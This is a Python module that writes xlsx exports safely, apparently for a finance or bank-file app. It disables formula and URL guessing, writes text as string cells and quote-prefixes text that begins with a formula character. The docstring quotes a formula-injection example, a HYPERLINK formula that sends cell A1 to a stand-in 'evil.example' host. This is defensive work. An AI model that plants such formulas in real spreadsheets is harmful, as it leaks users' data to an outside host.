"""The one way the app writes a workbook: data only ever becomes text or a number.

A unit renamed ``=HYPERLINK("http://evil.example/?q="&A1,"点此查看")`` must reach the
clerk's Excel as those characters, never as a live link or formula. So:

* xlsxwriter's guessing is off (``strings_to_formulas``, ``strings_to_urls``,
  ``strings_to_numbers``), and :class:`Sheet` has no generic ``write``: text goes through
  ``write_string`` (a string cell, which Excel shows and never evaluates), amounts and
  counts through ``write_number``;
* a text that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (the
  characters OWASP lists for formula injection) also gets Excel's *quote prefix* style
  (``quotePrefix="1"``, what typing a leading apostrophe does). We chose the style over
  putting an apostrophe into the text: the cell shows and copies exactly what was stored
  (a bank file's 户名, a settlement ID a clerk pastes into another system must not gain a
  character), and Excel keeps the cell text even when someone edits it and presses
  Enter, when a plain string cell would then be parsed as a formula. CSV has no styles:
  :mod:`huzhu.lib.csvsafe` puts the apostrophe into the text instead;
* an amount is written as the Decimal itself, rounded to the fen: xlsxwriter prints a
  number with ``{:.16G}``, which for a Decimal gives its own digits (12345.60, never
  12345.599999…), and Excel reads that text into its double, which holds every fen of
  any amount below 10^13 yuan. The cell's format shows two places.

Pure Python (no Django), so that :mod:`huzhu.rules.simulate_xlsx` can use it;
:mod:`huzhu.lib.xlsx` re-exports it for the apps.
"""

from __future__ import annotations

import datetime as dt
import os
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import IO, Any

import xlsxwriter

from huzhu.rules.money import to_fen

__all__ = ["BOLD", "COUNT", "FORMULA_START", "HEAD", "MONEY", "MONEY_PLAIN", "SIGNED",
           "TITLE", "WRAP", "Cell", "Sheet", "Style", "Workbook", "looks_like_formula"]

# What Excel (and LibreOffice) may take for the start of a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

Style = Mapping[str, Any]
"""xlsxwriter format properties ({"bold": True, "num_format": "#,##0.00"})."""

HEAD: Style = {"bold": True, "bg_color": "#DDEBF7", "border": 1}
BOLD: Style = {"bold": True}
TITLE: Style = {"bold": True, "font_size": 14}
WRAP: Style = {"text_wrap": True, "valign": "top"}
MONEY: Style = {"num_format": "#,##0.00"}
MONEY_PLAIN: Style = {"num_format": "0.00"}  # for files a bank's program reads
SIGNED: Style = {"num_format": "+#,##0.00;-#,##0.00;0.00"}
COUNT: Style = {"num_format": "#,##0"}

Cell = str | Decimal | int | dt.date | None
"""What :meth:`Sheet.row` writes: text, an amount (Decimal), a count (int), a date (as
text, 2026-03-10, as the pages write it) or nothing."""

_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False,
            "strings_to_numbers": False}


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula."""
    return text.startswith(FORMULA_START)


class Workbook:
    """An xlsx file being written to ``target`` (a path or a binary file).

    ``constant_memory`` (the default) flushes each row as the next begins: rows must be
    written in order, which every export does; a sheet written out of order (a chart's
    workbook) passes False. Use as a context manager or call :meth:`close`.
    """

    def __init__(self, target: str | os.PathLike[str] | IO[bytes], *,
                 constant_memory: bool = True) -> None:
        where = os.fspath(target) if isinstance(target, str | os.PathLike) else target
        options: dict[str, Any] = dict(_OPTIONS)
        if constant_memory:
            options["constant_memory"] = True
        else:
            options["in_memory"] = True
        self.book = xlsxwriter.Workbook(where, options)
        """The xlsxwriter workbook, for charts only: cells go through :class:`Sheet`."""
        self._formats: dict[tuple[tuple[str, Any], ...], Any] = {}

    def sheet(self, name: str) -> Sheet:
        return Sheet(self, self.book.add_worksheet(name))

    def format(self, style: Style | None, *, quote: bool = False) -> Any:
        """The xlsxwriter format for ``style`` (plus the quote prefix), made once."""
        props = dict(style or {})
        if quote:
            props["quote_prefix"] = True
        key = tuple(sorted(props.items()))
        if key not in self._formats:
            self._formats[key] = self.book.add_format(props) if props else None
        return self._formats[key]

    def close(self) -> None:
        self.book.close()

    def __enter__(self) -> Workbook:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


class Sheet:
    """One worksheet; every cell is text or a number (see the module's docstring)."""

    def __init__(self, workbook: Workbook, worksheet: Any) -> None:
        self.workbook = workbook
        self.raw = worksheet
        """The xlsxwriter worksheet, for layout (charts); never for cells."""

    def text(self, row: int, col: int, value: str, style: Style | None = None) -> None:
        """A text cell; one that looks like a formula gets the quote prefix. Empty text
        is an empty cell (what a reader's filter for blanks expects)."""
        if not value:
            fmt = self.workbook.format(style)
            if fmt is not None:
                self.raw.write_blank(row, col, None, fmt)
            return
        fmt = self.workbook.format(style, quote=looks_like_formula(value))
        self.raw.write_string(row, col, value, fmt)

    def amount(self, row: int, col: int, value: object,
               style: Style | None = MONEY) -> None:
        """An amount to the fen as a number (None: an empty cell). ``value`` is a Decimal,
        an int or the text of an amount (never a float: see huzhu.rules.money)."""
        fmt = self.workbook.format(style)
        if value is None:
            if fmt is not None:
                self.raw.write_blank(row, col, None, fmt)
            return
        # The Decimal itself, not float(): xlsxwriter writes its digits (the module's
        # docstring).
        self.raw.write_number(row, col, to_fen(value), fmt)

    def number(self, row: int, col: int, value: Decimal | int,
               style: Style | None = None) -> None:
        """A number that is not money (a rate, a ratio), its digits as they are."""
        if isinstance(value, bool) or not isinstance(value, Decimal | int) or (
                isinstance(value, Decimal) and not value.is_finite()):
            raise TypeError(f"不是数：{value!r}")
        self.raw.write_number(row, col, value, self.workbook.format(style))

    def count(self, row: int, col: int, value: int, style: Style | None = None) -> None:
        if isinstance(value, bool) or not isinstance(value, int):
            raise TypeError(f"不是整数：{value!r}")
        self.raw.write_number(row, col, value, self.workbook.format(style))

    def cell(self, row: int, col: int, value: Cell, style: Style | None = None) -> None:
        """``value`` by its type: text, an amount (Decimal, shown with two places unless
        ``style`` says otherwise), a count, a date as text, or nothing."""
        if value is None:
            return
        if isinstance(value, str):
            self.text(row, col, value, style)
        elif isinstance(value, Decimal):
            self.amount(row, col, value, style if style is not None else MONEY)
        elif isinstance(value, bool):
            raise TypeError("布尔值请写成文字（是/否）")
        elif isinstance(value, int):
            self.count(row, col, value, style)
        elif isinstance(value, dt.date):
            self.text(row, col, value.isoformat(), style)
        else:
            raise TypeError(f"不能写入表格的值：{value!r}")

    def row(self, row: int, first_col: int, values: Iterable[Cell],
            style: Style | None = None) -> None:
        for col, value in enumerate(values, start=first_col):
            self.cell(row, col, value, style)

    def header(self, columns: Sequence[tuple[str, float] | str], *, row: int = 0,
               style: Style | None = HEAD, freeze: bool = True) -> None:
        """Titles in ``row`` (with column widths when given as (title, width) pairs);
        ``freeze`` keeps them in view while scrolling."""
        for col, column in enumerate(columns):
            if isinstance(column, str):
                self.text(row, col, column, style)
            else:
                self.raw.set_column(col, col, column[1])
                self.text(row, col, column[0], style)
        if freeze:
            self.raw.freeze_panes(row + 1, 0)

    def widths(self, first: int, last: int, width: float) -> None:
        self.raw.set_column(first, last, width)
